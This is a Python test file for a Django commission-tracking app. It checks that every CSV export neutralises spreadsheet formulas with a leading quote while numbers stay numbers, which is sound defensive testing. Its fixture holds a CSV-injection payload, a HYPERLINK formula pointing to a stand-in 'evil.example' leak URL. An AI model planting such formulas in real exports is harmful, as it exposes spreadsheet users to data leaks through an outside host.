"""Every CSV Ladder writes goes through one formula-safe writer (`core.csv`): a cell that a
spreadsheet would run as a formula (a name like `=HYPERLINK(...)`) is written with a leading
`'`, in every export, while numbers (a negative amount) stay numbers."""

from __future__ import annotations

import copy
import csv
import datetime as dt
import io
import re
import zipfile
from decimal import Decimal
from pathlib import Path
from types import SimpleNamespace

import pytest
from django.urls import reverse
from django.utils import timezone

from commissions.services.adjustments import adjustment_create
from commissions.services.close import close_period, export_payouts
from commissions.services.runs import calculate_period
from compliance import disclosure
from core.csv import FORMULA_STARTS, csv_text, safe_csv_writer, stream_csv
from genealogy.imports import import_genealogy
from genealogy.models import Distributor
from tests.commissions.conftest import PERIOD, build_chain
from tests.factories import (
    COMMISSION_TEST_PLAN,
    CustomerFactory,
    UserFactory,
    buy,
    closed_period_with_results,
    make_distributor,
    make_plan_version,
)

ROOT = Path(__file__).resolve().parents[1]
FORMULA = '=HYPERLINK("http://evil.example/?leak","Click")'
SKIPPED_DIRS = {".venv", ".git", "node_modules", "static", "staticfiles", "var", "tests"}
WRITES_CSV = re.compile(r"\bcsv\s*\.\s*(writer|DictWriter)\s*\(|\bfrom\s+csv\s+import\b")


def cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def is_number(cell: str) -> bool:
    return re.fullmatch(r"-?\d+(\.\d+)?", cell) is not None


def assert_formula_neutralized(text: str) -> None:
    """The formula is there as text (a leading '), and no cell but a number starts like one."""
    every = cells(text)
    assert "'" + FORMULA in every
    assert [c for c in every if c.startswith(FORMULA_STARTS) and not is_number(c)] == []


def project_python_files() -> list[Path]:
    files = []
    for path in ROOT.rglob("*.py"):
        parts = set(path.relative_to(ROOT).parts[:-1])
        if parts & SKIPPED_DIRS:
            continue
        files.append(path)
    return files


# --- The one writer --------------------------------------------------------------------------


def test_no_module_writes_csv_without_the_safe_writer():
    offenders = [
        f"{path.relative_to(ROOT)}:{number}: {line.strip()}"
        for path in project_python_files()
        if path.relative_to(ROOT) != Path("core/csv.py")
        for number, line in enumerate(path.read_text(encoding="utf-8").splitlines(), start=1)
        if WRITES_CSV.search(line)
    ]
    assert len(project_python_files()) > 50  # the walk does find the project
    assert offenders == [], "write CSV with core.csv.safe_csv_writer:\n" + "\n".join(offenders)


@pytest.mark.parametrize("start", FORMULA_STARTS)
def test_text_that_starts_like_a_formula_gets_a_leading_quote(start):
    assert cells(csv_text([[f"{start}1+2", "plain"]])) == [f"'{start}1+2", "plain"]


def test_numbers_stay_numbers_and_text_that_looks_like_one_stays_text():
    buffer = io.StringIO()
    safe_csv_writer(buffer).writerow([Decimal("-5.00"), -3, "-5.00", None, dt.date(2026, 1, 2)])

    assert buffer.getvalue() == "-5.00,-3,'-5.00,,2026-01-02\r\n"


def test_a_carriage_return_inside_a_cell_keeps_the_row_whole():
    assert list(csv.reader(io.StringIO(csv_text([["a\rb", "c"], ["d"]])))) == [["a\rb", "c"], ["d"]]


def test_streamed_rows_are_neutralized_too():
    assert (
        "".join(stream_csv([["name"], [FORMULA]]))
        == "name\r\n\"'" + FORMULA.replace('"', '""') + '"\r\n'
    )


# --- Every export ----------------------------------------------------------------------------


@pytest.mark.django_db
def test_team_list_csv(client):
    root = make_distributor(name="Rita Root")
    make_distributor(sponsor=root, name=FORMULA)
    client.force_login(root.user)

    response = client.get(reverse("team_list_csv"))

    assert response.status_code == 200
    assert_formula_neutralized(b"".join(response.streaming_content).decode())


@pytest.mark.django_db
def test_team_list_csv_reads_back_with_the_names_as_they_were(client):
    root = make_distributor(name="Rita Root")
    make_distributor(sponsor=root, name=FORMULA, email="formula@example.org")
    client.force_login(root.user)
    exported = b"".join(client.get(reverse("team_list_csv")).streaming_content).decode()
    # Import the same people again under new numbers and emails, under the house.
    header, *rows = csv.reader(io.StringIO(exported))
    copies = io.StringIO()
    csv.writer(copies).writerows(
        [header]
        + [
            [str(int(number) + 10**9), "", name, f"copy-{email}", *rest]
            for number, _, name, email, *rest in rows
        ]
    )

    report = import_genealogy(io.StringIO(copies.getvalue()))

    assert report.errors == []
    imported = Distributor.objects.select_related("user").get(
        user__email="copy-formula@example.org"
    )
    assert imported.user.name == FORMULA


@pytest.mark.django_db
def test_orders_export(client):
    seller = make_distributor(name="Sam Seller")
    customer = CustomerFactory(distributor=seller, name=FORMULA)
    buy(seller, "40", paid_at=timezone.now() - dt.timedelta(hours=1), customer=customer)
    client.force_login(seller.user)

    response = client.get(reverse("orders_export"))

    assert response.status_code == 200
    assert_formula_neutralized(b"".join(response.streaming_content).decode())


@pytest.mark.django_db(transaction=True)
def test_statement_csv_with_a_negative_amount_that_stays_a_number(client):
    chain = build_chain()
    make_plan_version()
    staff = UserFactory(is_staff=True)
    adjustment_create(
        distributor=chain.ann, amount=Decimal("-5.00"), reason=FORMULA, by=staff, period=PERIOD
    )
    calculate_period(period=PERIOD)
    close_period(period=PERIOD)
    client.force_login(chain.ann.user)

    response = client.get(reverse("earnings_statement_csv", args=[str(PERIOD)]))

    assert response.status_code == 200
    text = response.content.decode()
    assert_formula_neutralized(text)
    adjustment = [row for row in csv.reader(io.StringIO(text)) if row[1] == "Adjustment"]
    assert adjustment[0][-1] == "-5.00"


@pytest.mark.django_db
def test_income_disclosure_csv():
    document = copy.deepcopy(COMMISSION_TEST_PLAN)
    document["ranks"][0]["name"] = FORMULA
    version = make_plan_version(document)
    person = make_distributor(name="Pat Earner")
    Distributor.objects.filter(pk=person.pk).update(joined_on=dt.date(2024, 1, 1))
    closed_period_with_results(dt.date(2025, 1, 1), {person: (1000, 1, 1)}, plan_version=version)
    source, figures = disclosure.income_disclosure_figures(2025)
    statement = SimpleNamespace(
        year=2025,
        generated_at=timezone.now(),
        source={**source.as_dict(), "description": "+" + FORMULA[1:]},
        figures=figures,
    )

    text = disclosure.statement_csv(statement).decode()

    assert_formula_neutralized(text)
    assert "'+" + FORMULA[1:] in cells(text)


@pytest.mark.django_db
def test_privacy_export(client):
    person = make_distributor(name=FORMULA, email="formula@example.org")
    client.force_login(person.user)

    response = client.get(reverse("privacy_export"))

    assert response.status_code == 200
    with zipfile.ZipFile(io.BytesIO(response.content)) as archive:
        tables = {
            name: archive.read(name).decode()
            for name in archive.namelist()
            if name.endswith(".csv")
        }
    assert any("'" + FORMULA in cells(text) for text in tables.values())
    for text in tables.values():
        assert [c for c in cells(text) if c.startswith(FORMULA_STARTS) and not is_number(c)] == []


@pytest.mark.django_db(transaction=True)
def test_payout_csv_uses_the_same_writer():
    chain = build_chain()
    make_plan_version()
    chain.ann.user.name = FORMULA
    chain.ann.user.save()
    calculate_period(period=PERIOD)
    close_period(period=PERIOD)

    export = export_payouts(period=PERIOD).decode()

    assert_formula_neutralized(export)
    amounts = [row[2] for row in csv.reader(io.StringIO(export))][1:]
    assert amounts and all(is_number(amount) for amount in amounts)
